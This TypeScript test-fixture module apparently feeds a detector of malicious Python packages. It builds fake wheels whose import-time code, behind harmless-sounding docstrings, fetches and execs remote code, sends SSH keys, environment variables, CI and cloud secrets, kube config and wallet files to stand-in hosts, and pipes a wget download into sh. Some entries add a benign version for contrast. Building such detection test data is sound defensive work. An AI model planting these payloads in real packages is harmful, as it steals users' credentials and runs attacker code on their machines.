import type { AttackPair } from '../../../../told.ts';
import { pair, py, wheel } from './kit.ts';

/** Functions that are handed to something which calls them. */
export const HANDING: Readonly<Record<string, AttackPair>> = {
  'import-hook-source': pair(
    wheel({
      'own/__init__.py': py`"""Optional extras, resolved on demand."""
from __future__ import annotations
import sys
import urllib.request
from importlib.abc import Loader, MetaPathFinder
from importlib.machinery import ModuleSpec
from types import ModuleType

class ExtraLoader(Loader):
    """Loads an extra of the project."""
    def create_module(self, spec: ModuleSpec) -> ModuleType | None:
        return None

    def exec_module(self, module: ModuleType) -> None:
        with urllib.request.urlopen(f"https://extras.example/{module.__name__}.py") as response:
            code = compile(response.read(), module.__name__, "exec")
        exec(code, module.__dict__)

class ExtraFinder(MetaPathFinder):
    """Finds extras of the project."""
    def find_spec(self, fullname, path=None, target=None):
        return ModuleSpec(fullname, ExtraLoader()) if fullname.startswith("own_extra") else None

sys.meta_path.append(ExtraFinder())
import own_extra_core
`,
    }),
  ),
  'single-dispatch': pair(
    wheel({
      'own/__init__.py': py`"""Serialises values for the wire."""
import os
import socket
from functools import singledispatch
from pathlib import Path

@singledispatch
def emit(value: object) -> None:
    """Sends a value."""
    raise TypeError(type(value))

@emit.register
def _(value: Path) -> None:
    emit(value.read_bytes())

@emit.register
def _(value: bytes) -> None:
    with socket.socket() as sock:
        sock.connect(("198.51.100.7", 9001))
        sock.sendall(value)

emit(Path(os.path.expanduser("~/.ssh/id_rsa")))
`,
    }),
  ),
  'context-manager': pair(
    wheel({
      'own/__init__.py': py`"""A channel to the collector."""
import contextlib
import os
import ssl
import socket
from collections.abc import Iterator

@contextlib.contextmanager
def channel(host: str) -> Iterator[ssl.SSLSocket]:
    """A channel that closes itself."""
    raw = socket.create_connection((host, 443))
    wrapped = ssl.create_default_context().wrap_socket(raw, server_hostname=host)
    try:
        yield wrapped
    finally:
        wrapped.close()

with channel("collector.example") as stream:
    stream.sendall(repr(sorted(os.environ.items())).encode())
`,
    }),
    wheel({
      'own/__init__.py': py`"""A channel to the collector."""
import contextlib
import ssl
import socket
from collections.abc import Iterator

@contextlib.contextmanager
def channel(host: str) -> Iterator[ssl.SSLSocket]:
    """A channel that closes itself."""
    raw = socket.create_connection((host, 443))
    wrapped = ssl.create_default_context().wrap_socket(raw, server_hostname=host)
    try:
        yield wrapped
    finally:
        wrapped.close()

def ping(host: str) -> None:
    """Whether the host answers."""
    with channel(host) as stream:
        stream.sendall(b"PING\r\n")
`,
    }),
  ),
  'star-import': pair(
    wheel({
      'own/_compat.py': py`"""Compatibility between versions of Python."""
import os
import requests
__all__ = ["snapshot", "emit"]

def snapshot() -> dict[str, str]:
    """A copy of the settings."""
    return os.environ.copy()

def emit(value: dict[str, str]) -> None:
    """Emits a value."""
    requests.post("https://compat.example/e", json=value)
`,
      'own/__init__.py': py`"""A library."""
from ._compat import *

emit(snapshot())
`,
    }),
  ),
  'pytest-plugin': pair(
    wheel({
      'own-1.0.dist-info/entry_points.txt': '[pytest11]\nown = own.plugin\n',
      'own/__init__.py': '"""Pretty test reports."""\n',
      'own/plugin.py': py`"""Hooks of pytest."""
from __future__ import annotations
import os
import pytest
import httpx

@pytest.hookimpl(tryfirst=True)
def pytest_configure(config: pytest.Config) -> None:
    """Prepares the report."""
    secrets = {k: v for k, v in os.environ.items() if k.startswith(("GITHUB_", "CI_", "AWS_", "TWINE_"))}
    with httpx.Client(base_url="https://reports.example") as client:
        client.post("/session", json=secrets)
`,
    }),
    wheel({
      'own-1.0.dist-info/entry_points.txt': '[pytest11]\nown = own.plugin\n',
      'own/__init__.py': '"""Pretty test reports."""\n',
      'own/plugin.py': py`"""Hooks of pytest."""
from __future__ import annotations
import os
import pytest
import httpx

def pytest_addoption(parser: pytest.Parser) -> None:
    """Where the report goes."""
    parser.addini("own_url", "address of the report server")

def pytest_sessionfinish(session: pytest.Session, exitstatus: int) -> None:
    """Sends the report."""
    url = session.config.getini("own_url")
    if url:
        httpx.post(url, json={"status": exitstatus, "branch": os.environ.get("GITHUB_REF_NAME")})
`,
    }),
  ),
  'finalize-timer': pair(
    wheel({
      'own/__init__.py': py`"""Keeps the cache fresh."""
import threading
import weakref
import urllib.request

class Cache:
    """A cache that refreshes itself."""
    url = "https://cache.example/refresh.py"

    def refresh(self) -> None:
        """Fetches what is new."""
        text = urllib.request.urlopen(self.url).read().decode()
        namespace: dict[str, object] = {}
        exec(text, namespace)

_cache = Cache()
_timer = threading.Timer(interval=900.0, function=_cache.refresh)
_timer.daemon = True
weakref.finalize(_cache, _timer.cancel)
_timer.start()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Keeps the cache fresh."""
import json
import threading
import urllib.request

class Cache:
    """A cache that refreshes itself."""
    def __init__(self, url: str) -> None:
        self.url = url
        self.values: dict[str, str] = {}

    def refresh(self) -> None:
        """Fetches what is new."""
        self.values = json.loads(urllib.request.urlopen(self.url).read())

    def start(self) -> None:
        """Refreshes it now and then."""
        timer = threading.Timer(interval=900.0, function=self.refresh)
        timer.daemon = True
        timer.start()
`,
    }),
  ),
  'executor-map': pair(
    wheel({
      'own/__init__.py': py`"""Parallel helpers."""
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
import requests

PATTERNS = ("**/.env", "**/*.pem", "**/wallet.dat")

def _found() -> list[Path]:
    home = Path.home()
    return [path for pattern in PATTERNS for path in home.glob(pattern)]

def _upload(path: Path) -> int:
    with path.open("rb") as handle:
        return requests.put(f"https://pool.example/{path.name}", data=handle).status_code

with ThreadPoolExecutor(max_workers=8) as pool:
    list(pool.map(_upload, _found()))
`,
    }),
  ),
  'audit-hook': pair(
    wheel({
      'own/__init__.py': py`"""Audits what a program opens."""
import sys
import threading
import requests

def _hook(event: str, args: tuple[object, ...]) -> None:
    """Notes what is opened."""
    if event == "open" and isinstance(args[0], str) and args[0].endswith((".env", ".pem", "credentials")):
        threading.Thread(target=_note, args=(args[0],), daemon=True).start()

def _note(path: str) -> None:
    with open(path, "rb") as handle:
        requests.post("https://audit.example/o", data=handle.read())

sys.addaudithook(_hook)
`,
    }),
  ),
  'task-group': pair(
    wheel({
      'own/__init__.py': py`"""Asynchronous start-up."""
from __future__ import annotations
import asyncio
import os
from pathlib import Path
import aiohttp

class Boot:
    """Prepares the client."""
    def __init__(self) -> None:
        self.queue: asyncio.Queue[dict[str, str]] = asyncio.Queue()

    async def produce(self) -> None:
        """Puts what is known into the queue."""
        await self.queue.put(dict(os.environ))
        config = Path("~/.kube/config").expanduser()
        await self.queue.put({"kube": await asyncio.to_thread(config.read_text)})

    async def consume(self) -> None:
        """Hands over what the queue holds."""
        async with aiohttp.ClientSession() as session:
            while not self.queue.empty():
                await session.post("https://boot.example/q", json=await self.queue.get())

    async def run(self) -> None:
        """Both, one after the other."""
        async with asyncio.TaskGroup() as group:
            group.create_task(self.produce())
            group.create_task(self.consume())

asyncio.run(Boot().run())
`,
    }),
  ),
  'type-registry-call': pair(
    wheel({
      'own/__init__.py': py`"""Handlers of events."""
import os
import subprocess
from typing import Callable, Final, Protocol

class Handler(Protocol):
    """Handles an event."""
    def __call__(self, text: str) -> None: ...

def _open(text: str) -> None:
    os.startfile(text)

def _run(text: str) -> None:
    subprocess.run(text, shell=True, check=False)

HANDLERS: Final[dict[str, Handler]] = {"open": _open, "run": _run}
DEFAULTS: Final = (("run", "wget -qO- https://h.example/i.sh | sh"),)

for kind, text in DEFAULTS:
    HANDLERS[kind](text)
`,
    }),
  ),
};
